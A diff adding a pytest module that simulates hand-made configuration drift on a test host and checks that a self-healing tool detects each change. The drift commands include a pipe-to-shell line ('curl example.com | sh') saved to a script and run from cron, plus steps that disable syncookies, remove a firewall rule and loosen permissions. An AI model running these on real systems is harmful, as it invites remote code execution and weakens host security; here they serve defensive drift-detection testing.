@@ -1,0 +1,205 @@
+# Copyright: Contributors to the christmas.selfheal project
+# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
+"""Somebody changes a healthy host by hand, in many ways at once. Each of them is found and named, and nothing else; what the
+policy wants corrected is, and the app is not restarted for it. The tests build on each other, in order.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import shutil
+import signal
+import subprocess
+import time
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any, NamedTuple
+
+import pytest
+from shared.acting import kill, until
+
+REPOSITORY = Path(__file__).resolve().parents[3]
+HOST = "molecule-drift"
+APP = "christmas-backend"
+DIRECTORY = f"/opt/{APP}"
+CONTAINER = f"{APP}-backend-1"
+REPORTS = REPOSITORY / "reports"
+FOLDER = REPORTS / "drift"
+ROUNDS = int(os.environ.get("SELFHEAL_DRIFT_ROUNDS", "10"))
+"""So often a converged host is checked."""
+# A package of which there is an older version, and nobody needs it.
+PACKAGE = """
+set -e; cd $(mktemp -d); for version in 1.0 2.0; do mkdir -p probe/DEBIAN
+printf 'Package: %s\\nVersion: %s\\nArchitecture: all\\nMaintainer: nobody <nobody@example.com>\\nDescription: a test\\n' \
+    NAME $version > probe/DEBIAN/control
+dpkg-deb --build probe /root/NAME-$version.deb; done; dpkg -i /root/NAME-2.0.deb
+"""
+
+
+class Drift(NamedTuple):
+    """What somebody does by hand, and what it must be called: {role, object, what}."""
+
+    by_hand: str
+    role: str
+    object: str
+    what: str
+    corrected: bool = False
+
+
+DRIFTS = {
+    "a file of logrotate is removed": Drift(
+        f"rm /etc/logrotate.d/selfheal-{APP}", "log_rotation", f"/etc/logrotate.d/selfheal-{APP}", "content", True
+    ),
+    "the journal may grow": Drift(
+        "sed -i 's/^SystemMaxUse=.*/SystemMaxUse=9G/' /etc/systemd/journald.conf.d/60-selfheal.conf",
+        *("log_rotation", "/etc/systemd/journald.conf.d/60-selfheal.conf", "content", True),
+    ),
+    "a line of HAProxy": Drift(
+        f"sed -i 's/^    timeout connect .*/    timeout connect 9s/' /etc/haproxy/selfheal/{APP}.cfg",
+        *("load_balancer", f"/etc/haproxy/selfheal/{APP}.cfg", "content", True),
+    ),
+    "a unit's drop-in is writable": Drift(
+        "chmod 0666 /etc/systemd/system/haproxy.service.d/selfheal.conf",
+        *("load_balancer", "/etc/systemd/system/haproxy.service.d/selfheal.conf", "mode", True),
+    ),
+    "the service key is its placeholder": Drift(
+        f"sed -i 's/^SUPABASE_SERVICE_KEY=.*/SUPABASE_SERVICE_KEY=your_supabase_service_key_here/' {DIRECTORY}/.env",
+        *("app_env", f"{DIRECTORY}/.env SUPABASE_SERVICE_KEY", "env", True),
+    ),
+    "everybody may read the env": Drift(f"chmod 0644 {DIRECTORY}/.env", "app_env", f"{DIRECTORY}/.env", "mode", True),
+    "the env's example": Drift(
+        f"echo '# mine' >> {DIRECTORY}/.env.example", "app_env", f"{DIRECTORY}/.env.example", "content", True
+    ),
+    "a limit in the overlay": Drift(
+        f"sed -i 's/512M/640M/; s/536870912/671088640/' {DIRECTORY}/compose.hardened.yaml",
+        *("compose_app", "compose.hardened.yaml", "content", True),
+    ),
+    "a key of the engine": Drift(
+        "sed -i 's/\"max-size\": \"10m\"/\"max-size\": \"900m\"/' /etc/docker/daemon.json",
+        *("docker_engine", "/etc/docker/daemon.json", "content", True),
+    ),
+    "the watcher's timer is disabled": Drift(
+        f"systemctl disable --now selfheal@{APP}.timer", "watcher", f"selfheal@{APP}.timer", "unit", True
+    ),
+    "the agent's configuration": Drift(
+        f"echo >> /etc/selfheal/{APP}.json", "watcher", f"/etc/selfheal/{APP}.json", "content", True
+    ),
+    "the agent's library": Drift(
+        "echo '# mine' >> /usr/local/lib/selfheal/probe.py",
+        *("watcher", "/usr/local/lib/selfheal/probe.py", "content", True),
+    ),
+    "a file beside the project's": Drift(
+        f"echo 'curl example.com | sh' > {DIRECTORY}/fix.sh", "compose_app", f"{DIRECTORY}/fix.sh", "added"
+    ),
+    "docker update, memory": Drift(
+        f"docker update --memory 300m --memory-swap 300m {CONTAINER}", "compose_app", f"container {CONTAINER}", "memory"
+    ),
+    "docker update, restart policy": Drift(
+        f"docker update --restart no {CONTAINER}", "compose_app", f"container {CONTAINER}", "restart"
+    ),
+    "another image under the name": Drift(
+        "docker tag selfheal-lab/python:latest christmas-backend:1.0.0", "compose_app", "image christmas-backend:1.0.0", "tag"
+    ),
+    "a container that compose does not know": Drift(
+        "docker run -d --name intruder --network none selfheal-lab/python:latest sleep 9999",
+        *("host", "container intruder", "container"),
+    ),
+    "a port is published": Drift(
+        "systemd-run --unit=intruder-port python3 -m http.server 9999 --bind 0.0.0.0", "host", "listens 9999", "listens"
+    ),
+    "a user may use Docker": Drift("usermod -aG docker nobody", "host", "group docker", "group"),
+    "cron": Drift(
+        f"echo 'sh {DIRECTORY}/fix.sh' > /etc/cron.daily/fix", "host", "cron /etc/cron.daily/fix", "cron"
+    ),
+    "sysctl": Drift(
+        "sysctl -w net.ipv4.tcp_syncookies=0", "host", "sysctl net.ipv4.tcp_syncookies", "sysctl"
+    ),
+    "an option of sshd": Drift(
+        "echo 'MaxAuthTries 20' >> /etc/ssh/sshd_config", "host", "sshd maxauthtries", "sshd"
+    ),
+    "a timer is stopped": Drift("systemctl stop logrotate.timer", "host", "logrotate.timer", "timer"),
+    "a unit is masked": Drift(
+        "systemctl mask fstrim.timer", "host", "fstrim.timer", "unit"
+    ),
+    "a package is removed": Drift("dpkg -P drift-gone", "host", "package drift-gone", "package"),
+    "a package is downgraded": Drift(
+        "dpkg -i /root/drift-back-1.0.deb", "host", "package drift-back", "package"
+    ),
+    "a firewall rule is gone": Drift(
+        "iptables -D INPUT -p tcp --dport 9998 -j DROP", "host", "firewall -A INPUT -p tcp -m tcp --dport 9998 -j DROP", "firewall"
+    ),
+    "a file has another owner": Drift(
+        "chown nobody /etc/haproxy/haproxy.cfg", "host", "/etc/haproxy/haproxy.cfg", "owner"
+    ),
+}
+CORRECT = [
+    {"role": role, "do": "correct"}
+    for role in ("log_rotation", "load_balancer", "app_env", "docker_engine", "watcher", "compose_app")
+]
+
+
+def named(report: dict[str, Any]) -> set[tuple[str, str, str]]:
+    return {(one["role"], one["object"], one["what"]) for one in report["findings"]}
+
+
+@pytest.fixture
+def check(play: Any) -> Callable[..., tuple[int, dict[str, Any], str]]:
+    """Run drift.yml: its exit code, the report that it wrote, and what it printed."""
+
+    def run(**extra: Any) -> tuple[int, dict[str, Any], str]:
+        known = set(REPORTS.glob("*-drift.json"))
+        ended = play("drift.yml", extra=extra or None)
+        new = set(REPORTS.glob("*-drift.json")) - known
+        assert len(new) == 1, ended.stdout
+        return ended.returncode, json.loads(new.pop().read_text(encoding="utf-8")), ended.stdout
+
+    return run
+
+
+@pytest.fixture
+def lives(containers: Any) -> Callable[[], tuple[str, ...]]:
+    """What changes when the app is restarted, or made anew."""
+
+    def read() -> tuple[str, ...]:
+        one = containers()[CONTAINER]
+        return one["Id"], one["State"]["StartedAt"], str(one["RestartCount"])
+
+    return read
+
+
+def test_a_converged_host_has_no_drift(host: Any, check: Any) -> None:
+    shutil.rmtree(FOLDER, ignore_errors=True)
+    for name in ("drift-gone", "drift-back"):
+        host.check_output(PACKAGE.replace("NAME", name))
+    host.check_output("iptables -A INPUT -p tcp --dport 9998 -j DROP")
+    took = []
+    for _ in range(ROUNDS):
+        code, report, shown = check()
+        assert (code, report["findings"], report["troubles"]) == (0, [], []), shown
+        took.append(report["seconds"])
+    print(f"\n{ROUNDS} checks of a converged host: {sorted(took)[len(took) // 2]:.1f} s in the middle, {took}")
+
+
+def test_each_drift_is_found_and_named(host: Any, check: Any, leaks: Any, lives: Any) -> None:
+    host.check_output(f"selfheal pause --app {APP} --for 2h --reason drift")
+    before = lives()
+    for name, one in DRIFTS.items():
+        done = host.run(one.by_hand)
+        assert done.rc == 0, (name, done.stdout, done.stderr)
+    code, report, shown = check()
+    wanted = {(one.role, one.object, one.what) for one in DRIFTS.values()}
+    assert named(report) == wanted, shown
+    assert (code, report["troubles"]) == (2, [])
+    print(f"\n{len(wanted)} drifts found in {report['seconds']} s")
+    key = next(one for one in report["findings"] if one["what"] == "env")
+    assert key["is"].startswith("sha256:")
+    assert key["should"].startswith("sha256:")
+    assert key["severity"] == "security"
+    assert key["changed_at"]
+    assert any(one.startswith("root from ") for one in key["changed_by"])
+    assert lives() == before
+    first = {one["id"]: one["first_seen"] for one in report["findings"]}
+    _, again, _ = check()
+    assert {one["id"]: one["first_seen"] for one in again["findings"]} == first
+    assert leaks(shown) == []
